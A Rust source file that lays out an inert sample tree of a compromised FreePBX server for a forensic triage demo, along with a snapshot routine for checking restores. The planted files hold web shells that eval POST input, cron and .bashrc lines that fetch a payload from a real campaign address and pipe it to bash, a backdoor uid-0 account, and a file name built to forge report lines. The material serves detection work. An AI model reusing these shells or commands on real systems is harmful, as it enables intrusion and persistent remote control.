//! The demo's host: the tree of a FreePBX system that was taken over, small and inert.
//!
//! Nothing in it can run: PHP begins with `<?php exit;`, scripts with `exit 0`, the tree is never anybody's root, and the addresses
//! are either the published ones of the campaigns (they are what is to be found) or documentation addresses.

use crate::exit::Failure;
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fmt::Write as _;
use std::fs;
use std::io::Write as _;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _};
use std::path::Path;
use std::time::{Duration, SystemTime};
use triage_core::model::{Digest, escape};

/// 2026-05-02T03:04:05Z and a fraction: a time that a careless restore would lose.
const PLANTED: Duration = Duration::from_nanos(1_777_691_045_123_456_789);

/// What belongs to the host: path, mode, content.
const VENDOR: &[(&str, u32, &str)] = &[
    ("etc/machine-id", 0o444, "d3a0d3a0d3a0d3a0d3a0d3a0d3a0d3a0\n"),
    ("etc/hostname", 0o644, "pbx-demo\n"),
    ("etc/os-release", 0o644, "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"),
    ("etc/crontab", 0o644, "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"),
    (
        "etc/cron.d/php",
        0o644,
        "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n",
    ),
    (
        "etc/freepbx.conf",
        0o660,
        "<?php\n$amp_conf['AMPDBUSER'] = 'freepbxuser';\n$amp_conf['AMPDBPASS'] = 'demo-not-a-secret';\n$amp_conf['AMPDBHOST'] = 'localhost';\n$amp_conf['AMPDBNAME'] = 'asterisk';\n$amp_conf['AMPDBENGINE'] = 'mysql';\nrequire_once('/var/www/html/admin/bootstrap.php');\n",
    ),
    ("etc/asterisk/extensions_custom.conf", 0o664, "; custom contexts go here\n"),
    ("etc/ssh/sshd_config", 0o644, "PermitRootLogin prohibit-password\nPasswordAuthentication no\n"),
    (
        "etc/systemd/system/freepbx.service",
        0o644,
        "[Unit]\nDescription=FreePBX VoIP Server\nAfter=mariadb.service\n\n[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/usr/sbin/fwconsole start -q\n\n[Install]\nWantedBy=multi-user.target\n",
    ),
    ("var/lib/asterisk/bin/fwconsole", 0o755, "#!/usr/bin/env php\n<?php exit; // stands for the real one\n"),
    ("var/www/html/index.php", 0o644, "<?php\nheader('Location: /admin');\n"),
    ("var/www/html/admin/config.php", 0o644, "<?php\nrequire_once 'bootstrap.php';\n"),
    ("var/www/html/admin/ajax.php", 0o644, "<?php\nrequire_once 'bootstrap.php';\n"),
    ("var/www/html/admin/bootstrap.php", 0o644, "<?php\ndefine('FREEPBX_IS_AUTH', true);\n"),
    (
        "var/log/apache2/access.log",
        0o640,
        "198.51.100.7 - - [02/May/2026:03:03:58 +0000] \"POST /admin/views/ajax.php HTTP/1.1\" 200 512 \"-\" \"curl/7.88\"\n203.0.113.9 - - [02/May/2026:08:00:00 +0000] \"GET /admin/config.php HTTP/1.1\" 200 8121 \"-\" \"Mozilla/5.0\"\n",
    ),
];

/// The files of two modules, which their `module.sig` lists.
const MODULES: &[(&str, &[(&str, &str)])] = &[
    (
        "core",
        &[
            ("functions.inc.php", "<?php\nfunction core_get_config($engine) {\n    return true;\n}\n"),
            (
                "module.xml",
                "<module>\n  <rawname>core</rawname>\n  <repo>standard</repo>\n  <name>Core</name>\n  <version>17.0.18</version>\n</module>\n",
            ),
            ("page.did.php", "<?php\nif (!defined('FREEPBX_IS_AUTH')) { die('No direct script access allowed'); }\n"),
        ],
    ),
    (
        "filestore",
        &[
            ("Filestore.class.php", "<?php\nnamespace FreePBX\\modules;\nclass Filestore {}\n"),
            (
                "module.xml",
                "<module>\n  <rawname>filestore</rawname>\n  <repo>standard</repo>\n  <name>Filestore</name>\n  <version>17.0.3</version>\n</module>\n",
            ),
        ],
    ),
];

/// What the intruder left: path, mode, content.
const PLANTED_FILES: &[(&str, u32, &str)] = &[
    (
        "var/www/html/admin/views/ajax.php",
        0o644,
        "<?php exit; // inert sample for the demo\n$button = '<input type=\"submit\" name=\"JOMANGY\" value=\"JOMANGY\">';\n$watermark = 'trace_e1ebf9066a951be519a24140711839ea';\n@eval(str_rot13(base64_decode($_POST['cmd'])));\n",
    ),
    (
        "var/www/html/admin/modules/core/ajax.php",
        0o644,
        "<?php exit; // inert sample for the demo\n@system($_REQUEST['cmd']);\n",
    ),
    (
        "var/www/html/admin/modules/freepbx_ha/license.php",
        0o755,
        "<?php exit; // inert sample for the demo\n@passthru(base64_decode($_POST['c']));\n",
    ),
    (
        "var/www/html/admin/assets/js/config.php",
        0o644,
        "<?php exit; // inert sample for the demo\nif (md5($_REQUEST['md5']) == 'cf710203400b8c466e6dfcafcf36a411') { eval(base64_decode($_REQUEST['cmd'])); }\n",
    ),
    ("var/www/html/admin/assets/.htaccess", 0o644, "RewriteEngine On\nRewriteRule .* config.php\n"),
    (
        "var/lib/asterisk/bin/zen2",
        0o755,
        "#!/bin/bash\nexit 0 # inert sample for the demo\nwhile true; do wget -q http://45.95.147.178/k.php -O /var/lib/asterisk/bin/devnull2 && bash /var/lib/asterisk/bin/devnull2; sleep 60; done\n",
    ),
    (
        "var/lib/asterisk/bin/devnull2",
        0o755,
        "#!/bin/bash\nexit 0 # inert sample for the demo\npgrep -f zen2 || (bash /var/lib/asterisk/bin/zen2 &)\n",
    ),
    (
        "var/tmp/.X11/.Xauthority",
        0o600,
        "*/1 * * * * wget -q http://45.95.147.178/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222\n",
    ),
];

/// A shell whose name would forge a second line in a careless report.
const HOSTILE_NAME: &[u8] = b"var/www/html/admin/assets/logo\nok: nothing found.php";
const HOSTILE_CONTENT: &str = "<?php exit; // inert sample for the demo\nassert($_COOKIE['x']);\n";

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nasterisk:x:999:999::/home/asterisk:/bin/bash\nnewfpbxs:x:0:0::/root:/bin/bash\n";
const SHADOW: &str = "root:$6$demo$inert-and-no-hash-of-anything:20000:0:99999:7:::\nwww-data:*:20000:0:99999:7:::\nasterisk:!:20000::::::\nnewfpbxs:$1$nRz1Cbtk$6DnGs37n.OpPcgejUfp9p.:20575:0:99999:7:::\n";
const ASTERISK_CRON: &str = "* * * * * [ -e /usr/sbin/fwconsole ] && sleep $((RANDOM\\%30)) && /usr/sbin/fwconsole job --run --quiet 2>&1 > /dev/null\n*/1 * * * * wget -q http://45.95.147.178/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222\n1 0 * * * /usr/sbin/fwconsole cdr --purnedata >> /var/log/asterisk/freepbx.log\n";
const ROOT_CRON: &str = "# m h  dom mon dow   command\n37 * * * * echo 'ZXhpdCAwICMgaW5lcnQ=' | base64 -d | bash\n";
const BASHRC: &str =
    "# ~/.bashrc\nexport PS1='\\h:\\w\\$ '\n(setsid wget -q http://45.95.147.178/k.php -O- | bash >/dev/null 2>&1 &)\n";

/// Lays the tree into `root`, which is an empty folder.
pub(super) fn lay(root: &Path) -> Result<(), Failure> {
    for (path, mode, content) in VENDOR.iter().chain(PLANTED_FILES) {
        put(root, path.as_bytes(), *mode, content)?;
    }
    for (module, files) in MODULES {
        let folder = format!("var/www/html/admin/modules/{module}");
        let mut listed = BTreeMap::new();
        for (name, content) in *files {
            put(root, format!("{folder}/{name}").as_bytes(), 0o644, content)?;
            listed.insert(*name, Digest::of(content.as_bytes()));
        }
        put(root, format!("{folder}/module.sig").as_bytes(), 0o644, &signature(&listed))?;
    }
    for (path, mode, content) in [
        ("etc/passwd", 0o644, PASSWD),
        ("etc/shadow", 0o640, SHADOW),
        ("var/spool/cron/crontabs/asterisk", 0o600, ASTERISK_CRON),
        ("var/spool/cron/crontabs/root", 0o600, ROOT_CRON),
        ("root/.bashrc", 0o644, BASHRC),
    ] {
        put(root, path.as_bytes(), mode, content)?;
    }
    put(root, HOSTILE_NAME, 0o644, HOSTILE_CONTENT)?;
    // Folders last: every file made in them moved their times.
    for folder in ["var/www/html/admin/assets", "var/spool/cron/crontabs", "var/lib/asterisk/bin", "etc"] {
        fs::File::open(root.join(folder))?.set_modified(SystemTime::UNIX_EPOCH + PLANTED)?;
    }
    Ok(())
}

/// The text of a `module.sig`. The armour is empty: the demo has no key, and no signature that could be taken for one.
fn signature(listed: &BTreeMap<&str, Digest>) -> String {
    let mut text = String::from(
        "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA1\n\n;################################################\n[config]\nversion=1\nhash=sha256\nsignedwith=B53D215A755231A3\nsignedby='FreePBX Mirror Servers <security@freepbx.org>'\nrepo=standard\ntimestamp=1747826114.886\n[hashes]\n",
    );
    for (name, digest) in listed {
        let _ = writeln!(text, "{name} = {digest}");
    }
    text.push_str(";# End\n-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n");
    text
}

#[expect(
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "the demo builds its own host in a folder of its own"
)]
fn put(root: &Path, path: &[u8], mode: u32, content: &str) -> Result<(), Failure> {
    let path = root.join(OsStr::from_bytes(path));
    if let Some(folder) = path.parent() {
        fs::create_dir_all(folder)?;
    }
    let mut file = fs::OpenOptions::new().write(true).create_new(true).mode(mode).open(&path)?;
    file.write_all(content.as_bytes())?;
    file.set_permissions(fs::Permissions::from_mode(mode))?;
    file.set_modified(SystemTime::UNIX_EPOCH + PLANTED)?;
    Ok(())
}

/// Everything that a rollback promises to restore, by path: type, mode, owner, modification time in nanoseconds, content or link target.
pub(super) fn snapshot(root: &Path) -> Result<BTreeMap<Vec<u8>, String>, Failure> {
    let mut seen = BTreeMap::new();
    let mut folders = vec![root.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder)? {
            let path = entry?.path();
            let found = fs::symlink_metadata(&path)?;
            let content = if found.is_dir() {
                folders.push(path.clone());
                String::new()
            } else if found.is_symlink() {
                escape(fs::read_link(&path)?.as_os_str().as_bytes())
            } else {
                Digest::of(&fs::read(&path)?).to_string()
            };
            let state = format!(
                "{:o} {}:{} {}.{:09} {content}",
                found.mode(),
                found.uid(),
                found.gid(),
                found.mtime(),
                found.mtime_nsec()
            );
            seen.insert(path.strip_prefix(root).unwrap_or(&path).as_os_str().as_bytes().to_vec(), state);
        }
    }
    Ok(seen)
}
